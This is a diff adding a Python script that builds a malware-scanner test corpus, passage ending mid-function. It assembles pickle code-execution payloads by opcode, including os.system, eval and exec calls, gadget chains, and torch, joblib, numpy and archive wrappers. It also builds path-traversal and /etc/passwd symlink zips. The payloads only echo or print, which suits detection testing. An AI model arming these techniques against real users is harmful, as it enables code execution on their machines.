@@ -1,0 +1,1218 @@
+#!/usr/bin/env python3
+"""Regenerate the wscan sample corpus: benign files written by the real libraries, hostile files
+assembled opcode by opcode (or pickled by the standard pickler from `__reduce__` stand-ins).
+
+    python corpus/build.py [--out corpus]
+
+Every hostile payload is harmless: shell gadgets run `echo`, Python gadgets `print`, file gadgets name
+a path under /tmp that does not exist. Nothing in this script loads a sample. Output is deterministic
+(fixed seeds, fixed archive timestamps); the TorchScript sample embeds this file's path, as TorchScript
+always records the source file of a scripted class. `MANIFEST.json` says, per file, what it is and which
+rule IDs wscan must report, and where.
+"""
+
+from __future__ import annotations
+
+import argparse
+import bz2
+import gzip
+import io
+import json
+import lzma
+import os
+import pickle
+import pickletools
+import random
+import shutil
+import stat
+import struct
+import sys
+import tarfile
+import tempfile
+import time
+import types
+import warnings
+import zipfile
+from collections import OrderedDict
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from unittest import mock
+
+SEED = 1234
+FIXED_DATE = (2024, 1, 1, 0, 0, 0)
+FIXED_EPOCH = 1704067200  # 2024-01-01T00:00:00Z
+MIB = 1024 * 1024
+
+# Member paths wscan reports are a chain: "outer.zip!inner.zip!payload.pkl".
+Expect = dict[str, Any]
+
+
+# --- what a hostile sample does when (never) loaded ------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Payload:
+    """The harmless effects hostile samples carry; tests swap in marker-file effects."""
+
+    cmd: str = "echo wscan-corpus-hostile-sample"  # for os.system-like gadgets
+    code: str = "print('wscan corpus hostile sample')"  # for eval/exec-like gadgets
+    path: str = "/tmp/wscan-corpus-hostile-sample-does-not-exist"  # for file gadgets
+    module: str = "mypackage"  # the unknown-but-harmless import
+    target: tuple[str, str] = ("os", "system")  # the callable container payloads call with `cmd`
+
+
+@dataclass
+class Sample:
+    path: str
+    label: str  # benign | hostile
+    technique: str
+    made_by: str = ""
+    rules: list[Expect] = field(default_factory=list)
+
+    def as_json(self) -> dict[str, Any]:
+        data: dict[str, Any] = {"path": self.path, "label": self.label, "technique": self.technique}
+        if self.made_by:
+            data["made_by"] = self.made_by
+        if self.label == "hostile":
+            data["rules"] = self.rules
+        return data
+
+
+def expect(*ids: str, member: str | None = None) -> list[Expect]:
+    """Expected rule IDs, optionally at a member chain inside the file."""
+    return [{"id": i, "member": member} for i in ids]
+
+
+class Corpus:
+    """Writes samples under `out` and remembers them for the manifest."""
+
+    def __init__(self, out: Path) -> None:
+        self.out = out
+        self.samples: list[Sample] = []
+
+    def add(self, rel: str, data: bytes, technique: str, **meta: Any) -> Path:
+        target = self.out / rel
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(data)
+        return self.record(rel, technique, **meta)
+
+    def record(self, rel: str, technique: str, **meta: Any) -> Path:
+        label = rel.split("/", 1)[0]
+        self.samples.append(Sample(rel, label, technique, **meta))
+        return self.out / rel
+
+
+# --- a tiny pickle assembler ----------------------------------------------------------------------
+
+
+def const(value: object, proto: int = 3) -> bytes:
+    """Opcodes that push `value` (plain data only), taken from the stdlib pickler, memo stripped."""
+    level = proto if proto < 2 else 3
+    data = pickletools.optimize(pickle.dumps(value, protocol=level))
+    if level >= 2:
+        data = data[2:]
+    assert data.endswith(pickle.STOP)
+    return data[:-1]
+
+
+def glob(module: str, name: str) -> bytes:
+    return pickle.GLOBAL + f"{module}\n{name}\n".encode()
+
+
+def text(value: str) -> bytes:
+    raw = value.encode()
+    if len(raw) < 256:
+        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
+    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw
+
+
+def stack_global(module: str, name: str) -> bytes:
+    return text(module) + text(name) + pickle.STACK_GLOBAL
+
+
+def call(func: bytes, args: tuple[Any, ...], proto: int = 3) -> bytes:
+    """func(*args) with REDUCE; `args` are plain data."""
+    return func + const(args, proto) + pickle.REDUCE
+
+
+def stream(body: bytes, proto: int = 2) -> bytes:
+    return (pickle.PROTO + bytes([proto]) if proto >= 2 else b"") + body + pickle.STOP
+
+
+def getattr_of(obj: bytes, attr: str) -> bytes:
+    """builtins.getattr(<obj>, attr)."""
+    return glob("builtins", "getattr") + pickle.MARK + obj + const(attr) + pickle.TUPLE + pickle.REDUCE
+
+
+def then_call(args: tuple[Any, ...]) -> bytes:
+    """Call whatever is on top of the stack."""
+    return const(args) + pickle.REDUCE
+
+
+def target_call(p: Payload, proto: int = 2) -> bytes:
+    """The container payload: <target>(cmd)."""
+    return stream(call(glob(*p.target), (p.cmd,), proto), proto)
+
+
+class _Reduce:
+    """Pickles as func(*args). Pickling only names `func`; it is never called here."""
+
+    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
+        self.func = func
+        self.args = args
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (self.func, self.args)
+
+
+@contextmanager
+def resolvable(module: str, name: str) -> Iterator[Callable[..., Any]]:
+    """A callable the stdlib pickler will name `module.name`, without importing that module.
+
+    For modules that exist (os), the real callable; otherwise a placeholder module object registered in
+    sys.modules only while pickling, so a canary module on sys.path is never executed.
+    """
+    if module in ("os", "posix"):
+        yield getattr(os, name)
+        return
+    placeholder = types.ModuleType(module)
+
+    def stand_in(*_args: object) -> None:  # never called
+        raise AssertionError("placeholder")
+
+    stand_in.__module__ = module
+    stand_in.__qualname__ = name
+    setattr(placeholder, name, stand_in)
+    saved = sys.modules.get(module)
+    sys.modules[module] = placeholder
+    try:
+        yield stand_in
+    finally:
+        if saved is None:
+            del sys.modules[module]
+        else:
+            sys.modules[module] = saved
+
+
+# --- containers with fixed metadata ---------------------------------------------------------------
+
+
+def zip_bytes(members: list[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
+    buf = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # duplicate names are a sample, not a mistake
+        with zipfile.ZipFile(buf, "w") as zf:
+            for name, data in members:
+                if isinstance(name, zipfile.ZipInfo):
+                    info = name
+                else:
+                    info = zipfile.ZipInfo(name, FIXED_DATE)
+                    info.external_attr = 0o644 << 16
+                    info.compress_type = method
+                zf.writestr(info, data, compresslevel=9 if info.compress_type == zipfile.ZIP_DEFLATED else None)
+    return buf.getvalue()
+
+
+def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size, info.mtime, info.mode = len(data), FIXED_EPOCH, 0o644
+            info.uid = info.gid = 0
+            info.uname = info.gname = ""
+            tf.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def gz(data: bytes) -> bytes:
+    return gzip.compress(data, compresslevel=9, mtime=0)
+
+
+def sevenzip_bytes(members: list[tuple[str, bytes]]) -> bytes:
+    import py7zr
+    from py7zr.helpers import ArchiveTimestamp
+
+    fixed = classmethod(lambda cls: cls((FIXED_EPOCH + 11644473600) * 10_000_000))
+    buf = io.BytesIO()
+    with mock.patch.object(ArchiveTimestamp, "from_now", fixed), py7zr.SevenZipFile(buf, "w") as archive:
+        for name, data in members:
+            archive.writestr(data, name)
+    return buf.getvalue()
+
+
+@contextmanager
+def fixed_zip_clock() -> Iterator[None]:
+    """Libraries that write zips themselves (numpy.savez) stamp members with the current time."""
+    clock = types.SimpleNamespace(time=lambda: float(FIXED_EPOCH), localtime=time.gmtime)
+    with mock.patch.object(zipfile, "time", clock):
+        yield
+
+
+def zip_offsets(data: bytes, name: str) -> tuple[int, int]:
+    """Offsets of `name`'s local header and central directory entry."""
+    encoded = name.encode()
+    pos = 0
+    while True:
+        local = data.index(b"PK\x03\x04", pos)
+        (length,) = struct.unpack_from("<H", data, local + 26)
+        if data[local + 30 : local + 30 + length] == encoded:
+            break
+        pos = local + 4
+    pos = 0
+    while True:
+        central = data.index(b"PK\x01\x02", pos)
+        (length,) = struct.unpack_from("<H", data, central + 28)
+        if data[central + 46 : central + 46 + length] == encoded:
+            return local, central
+        pos = central + 4
+
+
+def patch(data: bytes, offset: int, new: bytes) -> bytes:
+    return data[:offset] + new + data[offset + len(new) :]
+
+
+# --- torch helpers --------------------------------------------------------------------------------
+
+
+def torch_zip(
+    replace: dict[str, bytes] | None = None,
+    extra: list[tuple[str, bytes]] | None = None,
+    rename: dict[str, str] | None = None,
+) -> bytes:
+    """A real torch.save checkpoint, re-zipped with some members replaced, renamed or added."""
+    import torch
+
+    torch.manual_seed(SEED)
+    buf = io.BytesIO()
+    torch.save({"weight": torch.randn(2, 2), "bias": torch.zeros(2)}, buf)
+    members: list[tuple[str | zipfile.ZipInfo, bytes]] = []
+    with zipfile.ZipFile(buf) as src:
+        for info in src.infolist():
+            data = (replace or {}).get(info.filename, src.read(info))
+            members.append(((rename or {}).get(info.filename, info.filename), data))
+    members.extend(extra or [])
+    return zip_bytes(members)
+
+
+def legacy_pickles(data: bytes) -> list[tuple[int, int]]:
+    """(start, end) of the five pickles that open a legacy torch.save file."""
+    bounds: list[tuple[int, int]] = []
+    start = 0
+    while len(bounds) < 5:
+        end = next(pos for op, _, pos in pickletools.genops(data[start:]) if op.name == "STOP") + start + 1
+        bounds.append((start, end))
+        start = end
+    return bounds
+
+
+def stable_legacy_keys(data: bytes, itemsize: int) -> bytes:
+    """Legacy torch.save names storages by memory address and writes them in that order; rename them
+    0, 1, ... by first use and reorder the raw storages to match, so builds repeat. All storages of the
+    file must have the same element size."""
+    bounds = legacy_pickles(data)
+    (main_start, main_end), (keys_start, keys_end) = bounds[3], bounds[4]
+    keys = [arg for op, arg, _ in pickletools.genops(data[keys_start:keys_end]) if op.name == "BINUNICODE"]
+    blobs, pos = {}, keys_end
+    for key in keys:
+        (count,) = struct.unpack_from("<q", data, pos)
+        blobs[key] = data[pos : pos + 8 + count * itemsize]
+        pos += 8 + count * itemsize
+    assert pos == len(data)
+    used = [arg for op, arg, _ in pickletools.genops(data[main_start:main_end]) if arg in blobs]
+    order = list(dict.fromkeys(used))
+    main = data[main_start:main_end]
+    for index, key in enumerate(order):
+        old, new = key.encode(), str(index).encode()
+        main = main.replace(b"X" + struct.pack("<I", len(old)) + old, b"X" + struct.pack("<I", len(new)) + new)
+    key_list = pickle.dumps([str(i) for i in range(len(order))], protocol=2)
+    return data[:main_start] + main + key_list + b"".join(blobs[key] for key in order)
+
+
+def legacy_torch_with(main_pickle: bytes) -> bytes:
+    """A real legacy torch.save file of an empty dict, its main (4th) pickle replaced."""
+    import torch
+
+    buf = io.BytesIO()
+    torch.save({}, buf, _use_new_zipfile_serialization=False)
+    data = buf.getvalue()
+    main_start, main_end = legacy_pickles(data)[3]
+    return data[:main_start] + main_pickle + data[main_end:]
+
+
+# --- hostile samples ------------------------------------------------------------------------------
+
+# (file name, pickle bytes, technique, expected rule IDs)
+PickleSample = tuple[str, bytes, str, list[str]]
+
+
+def technique_pickles(p: Payload) -> list[PickleSample]:
+    mod, name = p.target
+    target_rules = ["WS-PKL-001"] if mod in ("os", "posix") else ["WS-PKL-003"]
+    posix_os = glob("posixpath", "os")  # find_class('posixpath', 'os') is the os module
+    m = pickle.MARK
+    samples: list[PickleSample] = [
+        (
+            "pickle-global-p0.pkl",
+            stream(call(glob(mod, name), (p.cmd,), 0), 0),
+            f"{mod}.{name} named by GLOBAL, called by REDUCE (protocol 0)",
+            target_rules,
+        ),
+        (
+            "pickle-stack-global-p4.pkl",
+            stream(stack_global(mod, name) + const((p.cmd,)) + pickle.REDUCE, 4),
+            f"{mod}.{name} named by STACK_GLOBAL (protocol 4)",
+            target_rules,
+        ),
+        (
+            "pickle-inst-p0.pkl",
+            stream(m + const(p.cmd, 0) + pickle.INST + f"{mod}\n{name}\n".encode(), 0),
+            f"{mod}.{name} named and called by INST",
+            target_rules,
+        ),
+        (
+            "pickle-obj-p1.pkl",
+            stream(m + glob(mod, name) + const(p.cmd, 1) + pickle.OBJ, 1),
+            f"{mod}.{name} called by OBJ",
+            target_rules,
+        ),
+        (
+            "pickle-newobj-p2.pkl",
+            stream(glob(mod, name) + const((p.cmd,)) + pickle.NEWOBJ, 2),
+            f"{mod}.{name} called by NEWOBJ",
+            target_rules,
+        ),
+        (
+            "pickle-newobj-ex-p4.pkl",
+            stream(stack_global(mod, name) + const((p.cmd,)) + const({}) + pickle.NEWOBJ_EX, 4),
+            f"{mod}.{name} called by NEWOBJ_EX",
+            target_rules,
+        ),
+        (
+            "pickle-builtins-eval.pkl",
+            stream(call(glob("builtins", "eval"), (p.code,))),
+            "builtins.eval of Python source",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-builtins-exec.pkl",
+            stream(call(glob("builtins", "exec"), (p.code,))),
+            "builtins.exec of Python source",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-builtins-getattr.pkl",
+            stream(getattr_of(posix_os, "system") + then_call((p.cmd,))),
+            "builtins.getattr(os, 'system') then called",
+            ["WS-PKL-001", "WS-PKL-005"],
+        ),
+        (
+            "pickle-builtins-import.pkl",
+            stream(call(glob("builtins", "__import__"), (p.module,))),
+            "builtins.__import__ of a module",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-builtins-open.pkl",
+            stream(call(glob("builtins", "open"), (p.path, "w"))),
+            "builtins.open for writing",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-dotted-tempfile-os-system.pkl",
+            stream(stack_global("tempfile", "_os.system") + const((p.cmd,)) + pickle.REDUCE, 4),
+            "dotted name tempfile._os.system resolves to os.system",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-dotted-walk-through-os.pkl",
+            stream(stack_global("logging", "os.system") + const((p.cmd,)) + pickle.REDUCE, 4),
+            "dotted name logging.os.system walks through the os module of an innocent one",
+            ["WS-PKL-002"],
+        ),
+        (
+            "pickle-dotted-walk-to-gadget.pkl",
+            stream(stack_global("numpy", "ma.core.np.load") + const((p.path,)) + pickle.REDUCE, 4),
+            "dotted name numpy.ma.core.np.load walks to a gadget name (load)",
+            ["WS-PKL-012"],
+        ),
+        (
+            "pickle-memo-built-names.pkl",
+            stream(
+                text(mod)
+                + pickle.BINPUT
+                + b"\x00"
+                + pickle.POP
+                + text(name)
+                + pickle.BINPUT
+                + b"\x01"
+                + pickle.POP
+                + pickle.BINGET
+                + b"\x00"
+                + pickle.BINGET
+                + b"\x01"
+                + pickle.STACK_GLOBAL
+                + const((p.cmd,))
+                + pickle.REDUCE,
+                4,
+            ),
+            "module and name strings stored in the memo, fetched by GET into STACK_GLOBAL",
+            target_rules,
+        ),
+        (
+            "pickle-ext1-registered.pkl",
+            stream(
+                call(glob("copyreg", "add_extension"), (mod, name, 240))
+                + pickle.POP
+                + pickle.EXT1
+                + bytes([240])
+                + const((p.cmd,))
+                + pickle.REDUCE
+            ),
+            "copyreg.add_extension registers an EXT1 code in the stream, EXT1 then names the callable",
+            sorted({"WS-PKL-001", *target_rules}),
+        ),
+        (
+            "pickle-ext2-unregistered.pkl",
+            stream(pickle.EXT2 + struct.pack("<H", 0x2A2A) + const((p.cmd,)) + pickle.REDUCE),
+            "EXT2 code that the stream never registers",
+            ["WS-PKL-007"],
+        ),
+        (
+            "pickle-computed-import.pkl",
+            stream(call(glob("builtins", "str"), (mod,)) + text(name) + pickle.STACK_GLOBAL + then_call((p.cmd,)), 4),
+            "STACK_GLOBAL module name is the result of builtins.str(...)",
+            ["WS-PKL-004"],
+        ),
+        (
+            "pickle-call-call-result.pkl",
+            stream(
+                glob("builtins", "getattr")
+                + m
+                + call(glob("builtins", "__import__"), (mod,))
+                + const(name)
+                + pickle.TUPLE
+                + pickle.REDUCE
+                + then_call((p.cmd,))
+            ),
+            "getattr(__import__(module), name) and REDUCE on the result",
+            ["WS-PKL-001", "WS-PKL-005"],
+        ),
+        (
+            "pickle-build-on-module.pkl",
+            stream(glob("os", "path") + const({"sep": "/"}) + pickle.BUILD + pickle.POP + const(None)),
+            "sleepy pickle: BUILD sets an attribute on the os.path module",
+            ["WS-PKL-006", "WS-PKL-001"],
+        ),
+        (
+            "pickle-setattr-on-class.pkl",
+            stream(
+                glob("builtins", "setattr")
+                + m
+                + glob("fractions", "Fraction")
+                + const("wscan_tampered")
+                + const(True)
+                + pickle.TUPLE
+                + pickle.REDUCE
+            ),
+            "builtins.setattr on a class",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-second-pickle-after-stop.pkl",
+            pickle.dumps({"weights": [0.5, 0.25]}, protocol=2) + target_call(p),
+            "a benign pickle, STOP, then a second pickle carrying the payload",
+            target_rules,
+        ),
+        (
+            "pickle-payload-then-truncated.pkl",
+            (
+                pickle.PROTO
+                + b"\x02"
+                + call(glob(mod, name), (p.cmd,))
+                + pickle.BINUNICODE
+                + struct.pack("<I", 1000)
+                + b"abc"
+            ),
+            "payload runs, then the stream is cut inside an opcode argument",
+            sorted({"WS-PKL-008", *target_rules}),
+        ),
+        (
+            "pickle-payload-then-invalid-opcode.pkl",
+            pickle.PROTO + b"\x02" + call(glob(mod, name), (p.cmd,)) + b"\xff" + pickle.STOP,
+            "payload runs, then an invalid opcode",
+            sorted({"WS-PKL-008", *target_rules}),
+        ),
+        (
+            "pickle-unknown-import.pkl",
+            stream(call(glob(p.module, "Thing"), ())),
+            f"import of an unknown, not known-dangerous class {p.module}.Thing",
+            ["WS-PKL-003"],
+        ),
+        (
+            "pickle-py2-builtin-eval.pkl",
+            stream(call(glob("__builtin__", "eval"), (p.code,), 2)),
+            "Python 2 name __builtin__.eval (mapped to builtins.eval by find_class)",
+            ["WS-PKL-001"],
+        ),
+        (
+            "pickle-py2-posix-system.pkl",
+            stream(call(glob("posix", "system"), (p.cmd,), 2)),
+            "posix.system: os.system under its implementation module name",
+            ["WS-PKL-001"],
+        ),
+    ]
+    return samples
+
+
+def gadget_pickles(p: Payload) -> list[PickleSample]:
+    posix_os = glob("posixpath", "os")
+    inner = target_call(p)
+    url = "http://127.0.0.1:9/wscan-corpus"
+    m = pickle.MARK
+    code_args = (0, 0, 0, 0, 1, 67, b"d\x00S\x00", (None,), (), (), "<wscan>", "f", "f", 1, b"", b"", (), ())
+    samples: list[PickleSample] = [
+        ("pip-main", call(glob("pip", "main"), (["--version"],)), "pip.main", []),
+        ("ensurepip", call(glob("ensurepip", "_main"), (["--version"],)), "ensurepip._main", []),
+        (
+            "pkgutil-resolve-name",
+            call(glob("pkgutil", "resolve_name"), ("os:system",)) + then_call((p.cmd,)),
+            "pkgutil.resolve_name('os:system') then called",
+            ["WS-PKL-005"],
+        ),
+        ("runpy-run-code", call(glob("runpy", "_run_code"), (p.code, {})), "runpy._run_code", []),
+        (
+            "importlib-import-module",
+            glob("builtins", "getattr")
+            + m
+            + call(glob("importlib", "import_module"), ("os",))
+            + const("system")
+            + pickle.TUPLE
+            + pickle.REDUCE
+            + then_call((p.cmd,)),
+            "getattr(importlib.import_module('os'), 'system') then called",
+            ["WS-PKL-005"],
+        ),
+        (
+            "code-interactive-interpreter",
+            getattr_of(call(glob("code", "InteractiveInterpreter"), ()), "runsource") + then_call((p.code,)),
+            "code.InteractiveInterpreter().runsource",
+            ["WS-PKL-005"],
+        ),
+        ("cprofile-run", call(glob("cProfile", "run"), (p.code,)), "cProfile.run", []),
+        (
+            "timeit-timeit",
+            glob("timeit", "timeit")
+            + m
+            + const(p.code)
+            + const("pass")
+            + glob("timeit", "default_timer")
+            + const(1)
+            + pickle.TUPLE
+            + pickle.REDUCE,
+            "timeit.timeit",
+            [],
+        ),
+        ("pydoc-pipepager", call(glob("pydoc", "pipepager"), ("wscan", p.cmd)), "pydoc.pipepager", []),
+        ("doctest-debug-script", call(glob("doctest", "debug_script"), (p.code,)), "doctest.debug_script", []),
+        ("webbrowser-open", call(glob("webbrowser", "open"), (url,)), "webbrowser.open", []),
+        (
+            "socket-create-connection",
+            call(glob("socket", "create_connection"), (("127.0.0.1", 9),)),
+            "socket.create_connection",
+            [],
+        ),
+        ("urllib-urlopen", call(glob("urllib.request", "urlopen"), (url,)), "urllib.request.urlopen", []),
+        ("shutil-rmtree", call(glob("shutil", "rmtree"), (p.path, True)), "shutil.rmtree", []),
+        (
+            "ctypes-cdll",
+            getattr_of(call(glob("ctypes", "CDLL"), (None,)), "system") + then_call((p.cmd.encode(),)),
+            "ctypes.CDLL(None).system",
+            ["WS-PKL-005"],
+        ),
+        (
+            "multiprocessing-spawnv-passfds",
+            call(glob("multiprocessing.util", "spawnv_passfds"), ("/bin/sh", ["sh", "-c", p.cmd], ())),
+            "multiprocessing.util.spawnv_passfds",
+            [],
+        ),
+        (
+            "asyncio-create-subprocess-exec",
+            call(glob("asyncio.subprocess", "create_subprocess_exec"), ("/bin/sh", "-c", p.cmd)),
+            "asyncio.subprocess.create_subprocess_exec",
+            [],
+        ),
+        (
+            "operator-attrgetter",
+            call(glob("operator", "attrgetter"), ("system",))
+            + m
+            + posix_os
+            + pickle.TUPLE
+            + pickle.REDUCE
+            + then_call((p.cmd,)),
+            "operator.attrgetter('system')(os) then called",
+            ["WS-PKL-005"],
+        ),
+        (
+            "operator-methodcaller",
+            call(glob("operator", "methodcaller"), ("system", p.cmd)) + m + posix_os + pickle.TUPLE + pickle.REDUCE,
+            "operator.methodcaller('system', cmd)(os)",
+            ["WS-PKL-005"],
+        ),
+        (
+            "functools-partial",
+            glob("functools", "partial")
+            + m
+            + glob("os", "system")
+            + const(p.cmd)
+            + pickle.TUPLE
+            + pickle.REDUCE
+            + then_call(()),
+            "functools.partial(os.system, cmd)()",
+            ["WS-PKL-005"],
+        ),
+        (
+            "functools-reduce",
+            glob("functools", "reduce")
+            + m
+            + glob("builtins", "getattr")
+            + const(("system",))
+            + posix_os
+            + pickle.TUPLE
+            + pickle.REDUCE
+            + then_call((p.cmd,)),
+            "functools.reduce(getattr, ('system',), os) then called",
+            ["WS-PKL-005"],
+        ),
+        (
+            "types-codetype-functiontype",
+            glob("types", "FunctionType")
+            + m
+            + call(glob("types", "CodeType"), code_args)
+            + const({})
+            + pickle.TUPLE
+            + pickle.REDUCE
+            + then_call(()),
+            "types.CodeType built from constants, wrapped by types.FunctionType, called",
+            ["WS-PKL-005"],
+        ),
+        (
+            "marshal-loads",
+            glob("types", "FunctionType")
+            + m
+            + call(glob("marshal", "loads"), (b"\xe3" + bytes(40),))
+            + const({})
+            + pickle.TUPLE
+            + pickle.REDUCE,
+            "marshal.loads of code bytes into types.FunctionType",
+            [],
+        ),
+        ("pickle-loads-nested", call(glob("pickle", "loads"), (inner,)), "pickle.loads of a nested payload", []),
+        ("torch-load", call(glob("torch", "load"), (p.path,)), "torch.load of another file", []),
+        ("numpy-load", call(glob("numpy", "load"), (p.path, None, True)), "numpy.load(allow_pickle=True)", []),
+        (
+            "torch-storage-load-from-bytes",
+            call(glob("torch.storage", "_load_from_bytes"), (inner,)),
+            "torch.storage._load_from_bytes of a nested payload",
+            [],
+        ),
+    ]
+    return [
+        (f"gadget-{name}.pkl", stream(body, 3), f"gadget: {technique}", ["WS-PKL-001", *extra])
+        for name, body, technique, extra in samples
+    ]
+
+
+def build_hostile(corpus: Corpus, p: Payload) -> None:
+    """Every hostile sample."""
+    for name, data, technique, rules in technique_pickles(p) + gadget_pickles(p):
+        corpus.add(f"hostile/{name}", data, technique, rules=expect(*rules))
+    payload = target_call(p)
+    main_rules = ["WS-PKL-001"] if p.target[0] in ("os", "posix") else ["WS-PKL-003"]
+    build_hostile_torch(corpus, p, payload, main_rules)
+    build_hostile_numpy(corpus, p, main_rules)
+    build_hostile_archives(corpus, payload, main_rules)
+
+
+def build_hostile_torch(corpus: Corpus, p: Payload, payload: bytes, rules: list[str]) -> None:
+    corpus.add(
+        "hostile/torch-zip-payload-data-pkl.pt",
+        torch_zip(replace={"archive/data.pkl": payload}),
+        "torch.save zip checkpoint whose data.pkl is replaced by a payload",
+        rules=expect(*rules, member="archive/data.pkl"),
+    )
+    corpus.add(
+        "hostile/torch-zip-extra-pickle-member.pt",
+        torch_zip(extra=[("archive/extra_state.pkl", payload)]),
+        "torch zip checkpoint with an extra pickle member under another name",
+        rules=expect(*rules, member="archive/extra_state.pkl"),
+    )
+    corpus.add(
+        "hostile/torch-zip-weird-member-name.pt",
+        torch_zip(replace={"archive/data.pkl": payload}, rename={"archive/data.pkl": "archive/x/data.pkl"}),
+        "torch zip checkpoint whose pickle sits at archive/x/data.pkl",
+        rules=expect(*rules, member="archive/x/data.pkl"),
+    )
+    corpus.add(
+        "hostile/torch-zip-pickle-in-storage-slot.pt",
+        torch_zip(extra=[("archive/data/99", payload)]),
+        "torch zip checkpoint with a pickle hidden in an unreferenced storage slot",
+        rules=expect(*rules, member="archive/data/99"),
+    )
+    corpus.add(
+        "hostile/torch-legacy-payload.pt",
+        legacy_torch_with(payload),
+        "legacy (non-zip) torch.save file whose main pickle is a payload",
+        rules=expect(*rules),
+    )
+
+
+def build_hostile_numpy(corpus: Corpus, p: Payload, rules: list[str]) -> None:
+    import joblib
+    import numpy as np
+
+    with tempfile.TemporaryDirectory() as tmp, resolvable(*p.target) as func:
+        evil = _Reduce(func, (p.cmd,))
+        objects = np.empty(2, dtype=object)
+        objects[0], objects[1] = "weights", evil
+        for rel, value, kwargs, technique in [
+            (
+                "joblib-reduce-payload.joblib",
+                {"model": evil},
+                {},
+                "joblib.dump of an object whose __reduce__ names the payload",
+            ),
+            (
+                "joblib-object-array-payload.joblib",
+                {"array": objects},
+                {},
+                "joblib.dump of an object array: the payload is in the nested pickle after the NumpyArrayWrapper",
+            ),
+            (
+                "joblib-zlib-payload.joblib",
+                {"model": evil},
+                {"compress": 3},
+                "joblib.dump(compress=3) (zlib) of a __reduce__ payload",
+            ),
+        ]:
+            path = Path(tmp) / rel
+            joblib.dump(value, path, **kwargs)
+            corpus.add(f"hostile/{rel}", path.read_bytes(), technique, rules=expect(*rules), made_by="joblib.dump")
+        npy = io.BytesIO()
+        np.save(npy, objects, allow_pickle=True)
+    corpus.add(
+        "hostile/npy-object-array-payload.npy",
+        npy.getvalue(),
+        "np.save of an object array: the pickle after the header carries the payload",
+        rules=expect(*rules),
+        made_by="numpy.save",
+    )
+    corpus.add(
+        "hostile/npz-object-array-payload.npz",
+        zip_bytes([("arr_0.npy", npy.getvalue())]),
+        "npz archive holding that object-array npy",
+        rules=expect(*rules, member="arr_0.npy"),
+    )
+
+
+def build_hostile_archives(corpus: Corpus, payload: bytes, rules: list[str]) -> None:
+    add = corpus.add
+    add(
+        "hostile/compressed-payload.pkl.gz",
+        gz(payload),
+        "gzip-wrapped payload pickle",
+        rules=expect(*rules, member="compressed-payload.pkl"),
+    )
+    add(
+        "hostile/compressed-payload.pkl.bz2",
+        bz2.compress(payload, 9),
+        "bz2-wrapped payload pickle",
+        rules=expect(*rules, member="compressed-payload.pkl"),
+    )
+    add(
+        "hostile/compressed-payload.pkl.xz",
+        lzma.compress(payload, format=lzma.FORMAT_XZ),
+        "xz-wrapped payload pickle",
+        rules=expect(*rules, member="compressed-payload.pkl"),
+    )
+    tar = tar_bytes([("model/config.json", b"{}\n"), ("model/payload.pkl", payload)])
+    add(
+        "hostile/tar-payload.tar", tar, "tar holding a payload pickle", rules=expect(*rules, member="model/payload.pkl")
+    )
+    add(
+        "hostile/tar-payload.tar.gz",
+        gz(tar),
+        "tar.gz holding a payload pickle",
+        rules=expect(*rules, member="tar-payload.tar!model/payload.pkl"),
+    )
+    add(
+        "hostile/sevenzip-payload.7z",
+        sevenzip_bytes([("payload.pkl", payload)]),
+        "7z holding a payload pickle",
+        rules=expect(*rules, member="payload.pkl"),
+    )
+    layout = [
+        ("model/data.pkl", payload),
+        ("model/version", b"3\n"),
+        ("model/byteorder", b"little"),
+        ("model/data/0", bytes(16)),
+    ]
+    add(
+        "hostile/sevenzip-torch-layout.7z",
+        sevenzip_bytes(layout),
+        "PyTorch checkpoint layout (folder with data.pkl) packed in 7z, data.pkl is a payload",
+        rules=expect(*rules, member="model/data.pkl"),
+    )
+    inner = zip_bytes([("payload.pkl", payload)])
+    outer = zip_bytes([("inner.zip", inner)])
+    add(
+        "hostile/nested-tar-zip-zip.tar",
+        tar_bytes([("outer.zip", outer)]),
+        "zip inside zip inside tar",
+        rules=expect(*rules, member="outer.zip!inner.zip!payload.pkl"),
+    )
+    add(
+        "hostile/zip-path-traversal.zip",
+        zip_bytes([("../evil.pkl", payload)]),
+        "zip member named ../evil.pkl (extraction escapes the target folder)",
+        rules=expect(*rules, "WS-ARC-009"),
+    )
+    link = zipfile.ZipInfo("model/config.json", FIXED_DATE)
+    link.create_system = 3
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    add(
+        "hostile/zip-symlink-etc-passwd.zip",
+        zip_bytes([(link, b"/etc/passwd")]),
+        "zip symlink member pointing to /etc/passwd",
+        rules=expect("WS-ARC-010"),
+    )
+    add(
+        "hostile/zip-duplicate-names.zip",
+        zip_bytes([("data.pkl", pickle.dumps({}, 2)), ("data.pkl", payload)]),
+        "two members named data.pkl: a benign one and the payload",
+        rules=expect(*rules, "WS-ARC-007"),
+    )
+    mismatch = zip_bytes([("weights.pkl", payload)])
+    local, _ = zip_offsets(mismatch, "weights.pkl")
+    add(
+        "hostile/zip-name-mismatch.zip",
+        patch(mismatch, local + 30, b"payload.pkl"),
+        "local header names payload.pkl, central directory names weights.pkl",
+        rules=expect(*rules, "WS-ARC-002"),
+    )
+    crc = zip_bytes([("payload.pkl", payload)])
+    local, central = zip_offsets(crc, "payload.pkl")
+    bad = struct.pack("<I", (zipfile.crc32(payload) ^ 0xFFFFFFFF) & 0xFFFFFFFF)
+    add(
+        "hostile/zip-bad-crc.zip",
+        patch(patch(crc, local + 14, bad), central + 16, bad),
